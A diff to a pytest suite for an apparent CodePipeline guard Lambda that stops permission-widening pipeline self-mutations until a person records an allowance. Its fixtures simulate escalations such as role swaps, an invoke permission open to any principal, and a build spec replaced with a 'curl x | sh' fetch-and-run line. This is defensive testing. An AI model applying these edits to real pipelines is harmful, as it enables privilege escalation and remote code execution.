@@ -90,7 +90,48 @@ def _edits():
             "Statement": [{"Action": "sts:AssumeRole", "Effect": "Allow", "Principal": {"Service": "codebuild.amazonaws.com"}}]},
             "ManagedPolicyArns": ["arn:aws:iam::aws:policy/AdministratorAccess"]}}
 
+    def attach(template):  # the self-mutation role's policy applied to the Synth step's role as well
+        policy = next(r for lid, r in template["Resources"].items() if r["Type"] == "AWS::IAM::Policy" and "SelfMutation" in lid)
+        policy["Properties"]["Roles"].append({"Ref": "PipelineBuildSynthCdkBuildProjectRole231EEA2A"})
+
+    def swap_role(template):  # the Synth step runs as the self-mutation role
+        project = next(r for lid, r in template["Resources"].items() if lid.startswith("PipelineBuildSynthCdkBuildProject")
+                       and r["Type"] == "AWS::CodeBuild::Project")
+        project["Properties"]["ServiceRole"] = {"Fn::GetAtt": ["PipelineUpdatePipelineSelfMutationRole57E559E8", "Arn"]}
+
+    def self_mutation_commands(template):
+        project = next(r for lid, r in template["Resources"].items() if "SelfMutation" in lid and r["Type"] == "AWS::CodeBuild::Project")
+        project["Properties"]["Source"]["BuildSpec"] = json.dumps({"version": "0.2", "phases": {"build": {"commands": ["curl x | sh"]}}})
+
+    def approval_after_deploys(template):
+        for stage in _stages(template):
+            for action in stage["Actions"]:
+                if action["ActionTypeId"]["Category"] == "Approval":
+                    action["RunOrder"] = 12
+
+    def reorder(template):
+        resource = next(r for r in template["Resources"].values() if r["Type"] == "AWS::CodePipeline::Pipeline")
+        stages = resource["Properties"]["Stages"]
+        names = [s["Name"] for s in stages]
+        staging, production = names.index("Staging"), names.index("Production")
+        stages[staging], stages[production] = stages[production], stages[staging]
+
+    def permission(template):
+        template["Resources"]["OpenGuard"] = {"Type": "AWS::Lambda::Permission", "Properties": {
+            "Action": "lambda:InvokeFunction", "FunctionName": {"Ref": _guard_ids(template)[0]}, "Principal": "*"}}
+
+    def parameter(template):
+        template["Resources"]["Allowance"] = {"Type": "AWS::SSM::Parameter", "Properties": {
+            "Name": "/coder-pipeline/allowed-widening/0123456789abcdef", "Type": "String", "Value": "x" * 30}}
+
     return {
+        "attach": (attach, "now applies to"),
+        "swap role": (swap_role, "acts with another role: ServiceRole"),
+        "self-mutation commands": (self_mutation_commands, "the self-mutation step changes what it runs"),
+        "approval after deploys": (approval_after_deploys, "action Production/PromoteToProduction changes RunOrder"),
+        "reorder": (reorder, "reorders its stages"),
+        "permission": (permission, "new resource type AWS::Lambda::Permission: OpenGuard"),
+        "parameter": (parameter, "new resource type AWS::SSM::Parameter: Allowance"),
         "statement": (statement, '"Action":"iam:*"'),
         "trust": (trust, "AssumeRolePolicyDocument"),
         "approval": (approval, "approval removed: Production/PromoteToProduction"),
@@ -111,7 +152,7 @@ def test_a_widening_stops_before_update_pipeline_and_says_what(deployed, name):
     assert passed is False, message
     assert shown in message
     rows = widening.widening(deployed, new, _guard_ids(deployed))
-    assert f"fingerprint {widening.fingerprint(rows)}" in message and "[[pipeline.allowed_widening]]" in message
+    assert f"fingerprint {widening.fingerprint(rows)}" in message and "A person who has reviewed it allows" in message
 
 
 def test_narrowing_passes(deployed):
@@ -127,24 +168,26 @@ def test_a_gate_added_is_no_widening(deployed):
     assert widening.decide(older, copy.deepcopy(deployed), _guard_ids(deployed))[0] is True
 
 
-def test_an_allowance_for_exactly_that_widening_lets_it_through(deployed):
+def test_a_persons_allowance_for_exactly_that_widening_lets_it_through(deployed):
     edit, _ = _edits()["statement"]
     new = copy.deepcopy(deployed)
     edit(new)
     mark = widening.fingerprint(widening.widening(deployed, new, _guard_ids(deployed)))
     reason = "the review step reads IAM for the new access report (change 4801)"
-    new["Metadata"]["PipelineGuard"]["AllowedWidening"] = [{"fingerprint": "0123456789abcdef", "reason": "another one"}]
-    assert widening.decide(deployed, new, _guard_ids(deployed))[0] is False  # a fingerprint of another widening
-    new["Metadata"]["PipelineGuard"]["AllowedWidening"].append({"fingerprint": mark, "reason": reason})
-    passed, message = widening.decide(deployed, new, _guard_ids(deployed))
-    assert passed and f"allowed ({mark}: {reason})" in message
+    allowances = {"0123456789abcdef": "another widening, allowed last week"}
+    assert widening.decide(deployed, new, _guard_ids(deployed), allowances.get)[0] is False
+    allowances[mark] = reason
+    passed, message = widening.decide(deployed, new, _guard_ids(deployed), allowances.get)
+    assert passed and f"allowed by a person ({mark}: {reason})" in message
 
 
 # --- the Lambda's job ---------------------------------------------------------------------------------------------
 
-JOB = {"CodePipeline.job": {"id": "11111111-2222-3333-4444-555555555555", "data": {
-    "inputArtifacts": [{"location": {"s3Location": {"bucketName": "artifacts", "objectKey": "Synth_Output/abc"}}}],
-    "artifactCredentials": {"accessKeyId": "AKIAEXAMPLEEXAMPLE12", "secretAccessKey": "s" * 40, "sessionToken": "t"}}}}
+JOB = {"CodePipeline.job": {"id": "11111111-2222-3333-4444-555555555555", "data": {}}}
+JOB_DATA = {
+    "pipelineContext": {"pipelineName": "coder-platform", "stage": {"name": "Build"}, "action": {"name": "PipelineGuard"}},
+    "inputArtifacts": [{"location": {"type": "S3", "s3Location": {"bucketName": "artifacts", "objectKey": "Synth_Output/abc"}}}],
+    "artifactCredentials": {"accessKeyId": "AKIAEXAMPLEEXAMPLE12", "secretAccessKey": "s" * 40, "sessionToken": "t"}}
 
 
 def _client(service: str):
@@ -152,47 +195,76 @@ def _client(service: str):
     return session.client(service)
 
 
-def _run(monkeypatch, new: dict, deployed_template: dict | None, expect_success: bool, message_part: str = ""):
-    monkeypatch.setenv("STACK_NAME", "CoderPipeline")
-    monkeypatch.setenv("TEMPLATE_FILE", "CoderPipeline.template.json")
-    monkeypatch.setenv("GUARD_LOGICAL_IDS", ",".join(_guard_ids(new)))
+def _assembly_zip(template: dict, manifest_edit=None) -> bytes:
+    manifest = {"version": "x", "artifacts": {
+        "CoderPipeline.assets": {"type": "cdk:asset-manifest", "properties": {"file": "CoderPipeline.assets.json"}},
+        "CoderPipeline": {"type": "aws:cloudformation:stack", "environment": "aws://111111111111/us-west-2",
+                          "properties": {"templateFile": "CoderPipeline.template.json", "stackName": "CoderPipeline"},
+                          "dependencies": ["CoderPipeline.assets"]}}}
+    if manifest_edit:
+        manifest_edit(manifest)
     archive = io.BytesIO()
     with zipfile.ZipFile(archive, "w") as zipped:
-        zipped.writestr("CoderPipeline.template.json", json.dumps(new))
-    s3, cloudformation, codepipeline = _client("s3"), _client("cloudformation"), _client("codepipeline")
-    stubs = [Stubber(s3), Stubber(cloudformation), Stubber(codepipeline)]
-    data = archive.getvalue()
-    stubs[0].add_response("get_object", {"Body": StreamingBody(io.BytesIO(data), len(data))},
-                          {"Bucket": "artifacts", "Key": "Synth_Output/abc"})
-    if deployed_template is None:
-        stubs[1].add_client_error("get_template", "ValidationError", "Stack with id CoderPipeline does not exist")
-    elif deployed_template == "denied":
-        stubs[1].add_client_error("get_template", "AccessDenied", "not authorized to perform: cloudformation:GetTemplate")
-    else:
-        stubs[1].add_response("get_template", {"TemplateBody": json.dumps(deployed_template)},
-                              {"StackName": "CoderPipeline", "TemplateStage": "Original"})
+        zipped.writestr("manifest.json", json.dumps(manifest))
+        zipped.writestr("CoderPipeline.template.json", json.dumps(template))
+        zipped.writestr("Other.template.json", json.dumps({"Resources": {}}))
+    return archive.getvalue()
+
+
+def _run(monkeypatch, new: dict, deployed_template, expect_success: bool, message_part: str = "", *,
+         manifest_edit=None, job_data=JOB_DATA, allowance: str | None = None):
+    monkeypatch.setenv("STACK_NAME", "CoderPipeline")
+    monkeypatch.setenv("TEMPLATE_FILE", "CoderPipeline.template.json")
+    monkeypatch.setenv("PIPELINE_NAME", "coder-platform")
+    monkeypatch.setenv("ALLOWANCE_PATH", "/coder-pipeline/allowed-widening/")
+    monkeypatch.setenv("GUARD_LOGICAL_IDS", ",".join(_guard_ids(new)))
+    s3, cloudformation, codepipeline, ssm = (_client(name) for name in ("s3", "cloudformation", "codepipeline", "ssm"))
+    stubs = {name: Stubber(client) for name, client in
+             (("s3", s3), ("cloudformation", cloudformation), ("codepipeline", codepipeline), ("ssm", ssm))}
     job_id = JOB["CodePipeline.job"]["id"]
-    if expect_success:
-        stubs[2].add_response("put_job_success_result", {}, {"jobId": job_id})
-    else:
-        stubs[2].add_response("put_job_failure_result", {}, {"jobId": job_id, "failureDetails": ANY})
-    monkeypatch.setattr(handler_module.boto3, "client", lambda service, **_kw: s3)
+    stubs["codepipeline"].add_response("get_job_details", {"jobDetails": {"id": job_id, "data": job_data}},
+                                       {"jobId": job_id})
+    data = _assembly_zip(new, manifest_edit)
+    if job_data is JOB_DATA:
+        stubs["s3"].add_response("get_object", {"Body": StreamingBody(io.BytesIO(data), len(data))},
+                                 {"Bucket": "artifacts", "Key": "Synth_Output/abc"})
+    refused = manifest_edit is not None or job_data is not JOB_DATA
+    if not refused:
+        if deployed_template is None:
+            stubs["cloudformation"].add_client_error("get_template", "ValidationError", "Stack with id CoderPipeline does not exist")
+        elif deployed_template == "denied":
+            stubs["cloudformation"].add_client_error("get_template", "AccessDenied", "not authorized to perform: GetTemplate")
+        else:
+            stubs["cloudformation"].add_response("get_template", {"TemplateBody": json.dumps(deployed_template)},
+                                                 {"StackName": "CoderPipeline", "TemplateStage": "Original"})
+            rows = widening.widening(deployed_template, new, _guard_ids(new))
+            if rows:
+                name = f"/coder-pipeline/allowed-widening/{widening.fingerprint(rows)}"
+                if allowance is None:
+                    stubs["ssm"].add_client_error("get_parameter", "ParameterNotFound", "no", expected_params={"Name": name})
+                else:
+                    stubs["ssm"].add_response("get_parameter", {"Parameter": {"Name": name, "Value": allowance}}, {"Name": name})
     sent = {}
-    original = codepipeline.put_job_failure_result
+    if expect_success:
+        stubs["codepipeline"].add_response("put_job_success_result", {}, {"jobId": job_id})
+    else:
+        stubs["codepipeline"].add_response("put_job_failure_result", {}, {"jobId": job_id, "failureDetails": ANY})
+        original = codepipeline.put_job_failure_result
 
-    def record(**kwargs):
-        sent.update(kwargs)
-        return original(**kwargs)
+        def record(**kwargs):
+            sent.update(kwargs)
+            return original(**kwargs)
 
-    codepipeline.put_job_failure_result = record
-    for stub in stubs:
+        codepipeline.put_job_failure_result = record
+    monkeypatch.setattr(handler_module.boto3, "client", lambda service, **_kw: s3)
+    for stub in stubs.values():
         stub.activate()
-    result = handler_module.handler(JOB, None, codepipeline=codepipeline, cloudformation=cloudformation)
-    for stub in stubs:
+    result = handler_module.handler(JOB, None, codepipeline=codepipeline, cloudformation=cloudformation, ssm=ssm)
+    for stub in stubs.values():
         stub.assert_no_pending_responses()
     assert result == {"passed": expect_success}
     if not expect_success:
-        assert sent["failureDetails"]["type"] == "JobFailed" and message_part in sent["failureDetails"]["message"]
+        assert sent["failureDetails"]["type"] == "JobFailed" and message_part in sent["failureDetails"]["message"], sent
     return sent
 
 
@@ -200,16 +272,38 @@ def test_the_action_passes_a_release_that_widens_nothing(monkeypatch, deployed):
     _run(monkeypatch, copy.deepcopy(deployed), deployed, expect_success=True)
 
 
-def test_the_action_fails_a_widening_with_its_rows(monkeypatch, deployed):
+def test_the_action_fails_a_widening_with_its_rows_until_a_person_allows_it(monkeypatch, deployed):
     new = copy.deepcopy(deployed)
     _edits()["approval"][0](new)
     _run(monkeypatch, new, deployed, expect_success=False, message_part="approval removed: Production/PromoteToProduction")
+    _run(monkeypatch, new, deployed, expect_success=False, message_part="approval removed",
+         allowance="ok")  # a reason too short to be one
+    _run(monkeypatch, new, deployed, expect_success=True,
+         allowance="production approvals move to the change board's own pipeline (change 4900)")
 
 
 def test_the_action_passes_the_first_deploy_and_fails_closed_when_it_cannot_read(monkeypatch, deployed):
     _run(monkeypatch, copy.deepcopy(deployed), None, expect_success=True)
     _run(monkeypatch, copy.deepcopy(deployed), "denied", expect_success=False,
          message_part="the pipeline guard could not decide: ClientError")
+
+
+@pytest.mark.parametrize(("edit", "message"), [
+    (lambda m: m["artifacts"]["CoderPipeline"]["properties"].update(templateFile="Other.template.json"),
+     "CoderPipeline would deploy 'Other.template.json', not CoderPipeline.template.json"),
+    (lambda m: (m["artifacts"].update(Other={"type": "aws:cloudformation:stack", "properties": {
+        "templateFile": "Other.template.json", "stackName": "Other"}}),
+                m["artifacts"]["CoderPipeline"]["dependencies"].append("Other")),
+     "CoderPipeline would deploy Other along with it"),
+])
+def test_an_assembly_that_would_deploy_something_else_is_refused(monkeypatch, deployed, edit, message):
+    _run(monkeypatch, copy.deepcopy(deployed), deployed, expect_success=False, message_part=message, manifest_edit=edit)
+
+
+def test_a_job_of_another_pipeline_or_action_is_refused(monkeypatch, deployed):
+    other = {**JOB_DATA, "pipelineContext": {"pipelineName": "someone-elses", "action": {"name": "PipelineGuard"}}}
+    _run(monkeypatch, copy.deepcopy(deployed), deployed, expect_success=False,
+         message_part="is not this pipeline's guard action", job_data=other)
 
 
 # --- its place in the pipeline --------------------------------------------------------------------------------
@@ -228,7 +322,8 @@ def test_the_guard_runs_after_synth_before_update_pipeline_on_the_synth_output(p
     assert guard["Configuration"]["FunctionName"] == {"Ref": function_id}
     variables = pipeline.resources[function_id]["Properties"]["Environment"]["Variables"]
     assert variables["STACK_NAME"] == "CoderPipeline" and variables["TEMPLATE_FILE"] == "CoderPipeline.template.json"
-    assert pipeline.body["Metadata"]["PipelineGuard"] == {"AllowedWidening": []}  # the shipped config allows none
+    assert variables["PIPELINE_NAME"] == "coder-platform"
+    assert variables["ALLOWANCE_PATH"] == "/coder-pipeline/allowed-widening/"
 
 
 def test_the_guard_reads_only_its_own_stack(pipeline):
@@ -239,5 +334,21 @@ def test_the_guard_reads_only_its_own_stack(pipeline):
     (read,) = [s for s in statements if s.get("Sid") == "ReadThePipelineStack"]
     assert read["Action"] == "cloudformation:GetTemplate"
     assert read["Resource"] == "arn:aws:cloudformation:us-west-2:111111111111:stack/CoderPipeline/*"
+    (allowances,) = [s for s in statements if s.get("Sid") == "ReadAllowances"]
+    assert allowances["Action"] == "ssm:GetParameter"
+    assert allowances["Resource"] == "arn:aws:ssm:us-west-2:111111111111:parameter/coder-pipeline/allowed-widening/*"
     actions = sorted({a for s in statements for a in ([s["Action"]] if isinstance(s["Action"], str) else s["Action"])})
-    assert actions == ["cloudformation:GetTemplate", "codepipeline:PutJobFailureResult", "codepipeline:PutJobSuccessResult"]
+    assert actions == ["cloudformation:GetTemplate", "codepipeline:GetJobDetails", "codepipeline:PutJobFailureResult",
+                       "codepipeline:PutJobSuccessResult", "ssm:GetParameter"]
+
+
+def test_no_role_of_the_pipeline_may_write_an_allowance(pipeline):
+    """Only a person puts one: no statement of the pipeline's own roles names ssm:PutParameter (or ssm:*), and the
+    pipeline account's execution policies (what self-mutation deploys with) hold none either."""
+    for policy in pipeline.props("AWS::IAM::Policy"):
+        for statement in policy["PolicyDocument"]["Statement"]:
+            actions = [statement["Action"]] if isinstance(statement["Action"], str) else statement["Action"]
+            assert not [a for a in actions if a in ("ssm:PutParameter", "ssm:*", "*")], statement
+    from pipeline.execution_policy import DIRECTORY
+    granted = {a for path in DIRECTORY.glob("pipeline-*.json") for a in json.loads(path.read_text())["Statement"][0]["Action"]}
+    assert "ssm:PutParameter" not in granted
